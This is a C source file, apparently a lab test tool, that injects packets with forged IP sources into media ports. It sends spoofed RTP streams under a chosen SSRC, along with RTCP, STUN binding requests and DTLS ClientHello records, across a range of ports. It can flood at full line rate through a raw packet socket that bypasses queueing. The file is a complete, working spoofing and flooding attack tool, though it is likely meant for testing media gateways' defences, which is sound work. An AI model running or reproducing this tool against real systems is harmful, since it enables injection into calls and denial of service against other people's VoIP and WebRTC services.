/* SPDX-License-Identifier: BSD-3-Clause */
/* media_attack.c: frames with forged sources to media ports: RTP that claims to be somebody's, RTCP, STUN, DTLS; a
 * few, or as many as the machine makes. Says as one line of JSON how many. For the lab's own wires only. */
#include <arpa/inet.h>
#include <getopt.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "alg/base/addr.h"
#include "alg/net/checksum.h"

enum { BATCH = 64, IP_HEADER = 20, UDP_HEADER = 8, RTP_HEADER = 12, AUDIO = 160 };
enum { PACKET = IP_HEADER + UDP_HEADER + RTP_HEADER + AUDIO, FRAME = ETH_HLEN + PACKET };

enum kind { KIND_RTP, KIND_RTCP, KIND_STUN, KIND_DTLS, KIND_N };

struct options {
	const char *device, *mac, *name;
	struct addr source, target;
	unsigned last;      /* ports of the target from its own to this one, all in each round */
	unsigned count;     /* rounds; 0: until the time is over */
	unsigned seconds;   /* at most */
	unsigned interval;  /* microseconds between rounds; 0: as fast as it goes */
	unsigned ssrc, seq; /* of the first packet */
	unsigned payload_type;
	bool mixed; /* all kinds in turn */
};

/* What each kind looks like to who tells them apart by their beginnings (RFC 7983). */
static const struct {
	uint8_t head[24];
	uint8_t n;
} heads[KIND_N] = {
	[KIND_RTCP] = { { 0x80, 200, 0, 6 }, 28 },
	/* A binding request (RFC 8489): no attributes. */
	[KIND_STUN] = { { 0, 1, 0, 0, 0x21, 0x12, 0xa4, 0x42, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12 }, 20 },
	/* A handshake record of DTLS 1.2 that holds a ClientHello (RFC 6347). */
	[KIND_DTLS] = { { 22, 0xfe, 0xfd, 0, 0, 0, 0, 0, 0, 0, 0, 0, 60, 1, 0, 0, 48, 0, 0, 0, 0, 0, 0, 48 }, 73 },
};

static void put16(uint8_t *p, unsigned v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v & 0xffff);
}

/* Its length in bytes. */
static unsigned payload_write(uint8_t *p, const struct options *o, enum kind kind, unsigned number)
{
	const size_t n = strlen(o->name);
	unsigned digits = number;

	memset(p, 0, RTP_HEADER + AUDIO);
	if (kind != KIND_RTP) {
		memcpy(p, heads[kind].head, sizeof(heads[kind].head));
		if (kind == KIND_RTCP)
			put32(p + 4, o->ssrc);
		return heads[kind].n;
	}
	p[0] = 0x80;
	p[1] = (uint8_t)(o->payload_type & 0x7f);
	put16(p + 2, (o->seq + number) & 0xffff);
	put32(p + 4, (o->seq + number) * AUDIO);
	put32(p + 8, o->ssrc);
	memset(p + RTP_HEADER, 0xff, AUDIO);
	memcpy(p + RTP_HEADER, o->name, n);
	p[RTP_HEADER + n] = ':';
	for (unsigned i = 8; i > 0; i--, digits /= 10)
		p[RTP_HEADER + n + i] = (uint8_t)('0' + digits % 10);
	return RTP_HEADER + AUDIO;
}

static unsigned frame_write(uint8_t *f, const struct options *o, unsigned port, unsigned number)
{
	uint8_t *ip = f + ETH_HLEN, *udp = ip + IP_HEADER;
	const unsigned n = payload_write(udp + UDP_HEADER, o, o->mixed ? number % KIND_N : KIND_RTP, number);
	const unsigned total = IP_HEADER + UDP_HEADER + n;
	uint16_t sum;

	memset(ip, 0, IP_HEADER + UDP_HEADER);
	ip[0] = 0x45;
	put16(ip + 2, total);
	ip[8] = 64;
	ip[9] = IPPROTO_UDP;
	memcpy(ip + 12, o->source.ip, 4);
	memcpy(ip + 16, o->target.ip, 4);
	sum = checksum_field(checksum_add(0, ip, IP_HEADER));
	memcpy(ip + 10, &sum, 2);
	put16(udp, o->source.port);
	put16(udp + 2, port);
	put16(udp + 4, UDP_HEADER + n); /* without a checksum, as IPv4 allows (RFC 768) */
	return ETH_HLEN + total;
}

static uint64_t clock_us(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000 + (uint64_t)t.tv_nsec / 1000;
}

static uint64_t batch_send(int fd, uint8_t frames[BATCH][FRAME], const unsigned *len, unsigned n)
{
	struct mmsghdr messages[BATCH] = { 0 };
	struct iovec parts[BATCH];
	unsigned done = 0;

	for (unsigned i = 0; i < n; i++) {
		parts[i] = (struct iovec){ .iov_base = frames[i], .iov_len = len[i] };
		messages[i].msg_hdr = (struct msghdr){ .msg_iov = &parts[i], .msg_iovlen = 1 };
	}
	while (done < n) {
		const int sent = sendmmsg(fd, messages + done, n - done, 0);

		if (sent <= 0)
			break; /* the wire is full: what it does not take is lost, as on any wire */
		done += (unsigned)sent;
	}
	return done;
}

static uint64_t attack(int fd, const struct options *o, uint8_t frames[BATCH][FRAME])
{
	unsigned len[BATCH], n = 0;
	uint64_t sent = 0, next = clock_us();
	const uint64_t end = next + (uint64_t)o->seconds * 1000000;

	for (unsigned number = 0; (!o->count || number < o->count) && clock_us() < end; number++) {
		for (unsigned port = o->target.port; port <= o->last; port++) {
			len[n] = frame_write(frames[n], o, port, number);
			if (++n < BATCH)
				continue;
			sent += batch_send(fd, frames, len, n);
			n = 0;
		}
		if (!o->interval)
			continue;
		sent += batch_send(fd, frames, len, n);
		n = 0;
		next += o->interval;
		if (next > clock_us())
			usleep((useconds_t)(next - clock_us()));
	}
	return sent + batch_send(fd, frames, len, n);
}

static int wire_open(const char *device)
{
	const struct sockaddr_ll at = { .sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(device) };
	const int fd = socket(AF_PACKET, SOCK_RAW, 0), bypass = 1;

	if (fd < 0 || at.sll_ifindex == 0 || bind(fd, (const struct sockaddr *)&at, sizeof(at)) != 0 ||
	    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &bypass, sizeof(bypass)) != 0) {
		perror("media_attack: packet socket");
		exit(2);
	}
	return fd;
}

static void usage(FILE *out)
{
	fputs("usage: media_attack --device NAME --mac MAC --source IP:PORT --target IP:PORT [OPTION...]\n"
	      "  --last PORT       of the target, beginning with its own: all of them in each round\n"
	      "  --count N         rounds (0: until the time is over)\n"
	      "  --seconds N       at most (5)\n"
	      "  --interval US     microseconds between rounds (0: as fast as it goes)\n"
	      "  --name NAME       of the sender, in each payload (mallory)\n"
	      "  --ssrc N, --seq N, --payload-type N   of RTP\n"
	      "  --mixed           RTP, RTCP, STUN and DTLS in turn\n",
	      out);
}

static void refuse(const char *what, const char *value)
{
	fprintf(stderr, "media_attack: %s %s\n", what, value);
	usage(stderr);
	exit(2);
}

enum option_kind { TEXT, NUMBER, FLAG, ADDRESS };

static const struct {
	const char *name;
	enum option_kind kind;
	size_t at;
} option_table[] = {
	{ "device", TEXT, offsetof(struct options, device) },
	{ "mac", TEXT, offsetof(struct options, mac) },
	{ "name", TEXT, offsetof(struct options, name) },
	{ "source", ADDRESS, offsetof(struct options, source) },
	{ "target", ADDRESS, offsetof(struct options, target) },
	{ "last", NUMBER, offsetof(struct options, last) },
	{ "count", NUMBER, offsetof(struct options, count) },
	{ "seconds", NUMBER, offsetof(struct options, seconds) },
	{ "interval", NUMBER, offsetof(struct options, interval) },
	{ "ssrc", NUMBER, offsetof(struct options, ssrc) },
	{ "seq", NUMBER, offsetof(struct options, seq) },
	{ "payload-type", NUMBER, offsetof(struct options, payload_type) },
	{ "mixed", FLAG, offsetof(struct options, mixed) },
};

enum { OPTION_N = sizeof(option_table) / sizeof(option_table[0]), NAME_MAX_LEN = 20 };

static void option_set(struct options *o, unsigned i, const char *value)
{
	char *at = (char *)o + option_table[i].at, *end;
	struct addr address;
	unsigned number;

	switch (option_table[i].kind) {
	case TEXT:
		memcpy(at, &value, sizeof(value));
		return;
	case FLAG:
		*at = true;
		return;
	case NUMBER:
		number = (unsigned)strtoul(value, &end, 0);
		if (!*value || *end)
			refuse("not a number:", value);
		memcpy(at, &number, sizeof(number));
		return;
	case ADDRESS:
		if (addr_parse(span_str(value), 0, &address) || address.family != ADDR_V4)
			refuse("not an address:", value);
		memcpy(at, &address, sizeof(address));
	}
}

static void options_read(int argc, char **argv, struct options *o)
{
	struct option names[OPTION_N + 2] = { 0 };
	int c;

	*o = (struct options){ .name = "mallory", .seconds = 5 };
	for (unsigned i = 0; i < OPTION_N; i++)
		names[i] =
			(struct option){ option_table[i].name,
					 option_table[i].kind == FLAG ? no_argument : required_argument, NULL, (int)i };
	names[OPTION_N] = (struct option){ "help", no_argument, NULL, 'h' };
	while ((c = getopt_long(argc, argv, "", names, NULL)) != -1) {
		if (c == 'h' || c == '?') {
			usage(c == 'h' ? stdout : stderr);
			exit(c == 'h' ? 0 : 2);
		}
		option_set(o, (unsigned)c, optarg);
	}
	if (!o->device || !o->mac || !addr_is_set(&o->source) || !addr_is_set(&o->target) ||
	    strlen(o->name) > NAME_MAX_LEN)
		refuse("needed: --device, --mac, --source, --target and a short --name;", "see below");
	if (o->last < o->target.port)
		o->last = o->target.port;
}

int main(int argc, char **argv)
{
	static uint8_t frames[BATCH][FRAME];
	struct options o;
	unsigned mac[ETH_ALEN];
	uint64_t sent, begun;
	int fd;

	options_read(argc, argv, &o);
	if (sscanf(o.mac, "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != ETH_ALEN)
		refuse("not a MAC address:", o.mac);
	for (unsigned i = 0; i < BATCH; i++) {
		for (unsigned k = 0; k < ETH_ALEN; k++)
			frames[i][k] = (uint8_t)mac[k];
		frames[i][ETH_ALEN] = 2; /* from a made-up one, locally administered */
		put16(frames[i] + 2 * (size_t)ETH_ALEN, ETH_P_IP);
	}
	fd = wire_open(o.device);
	begun = clock_us();
	sent = attack(fd, &o, frames);
	printf("{\"sent\":%llu,\"seconds\":%.3f}\n", (unsigned long long)sent, (double)(clock_us() - begun) / 1e6);
	close(fd);
	return 0;
}
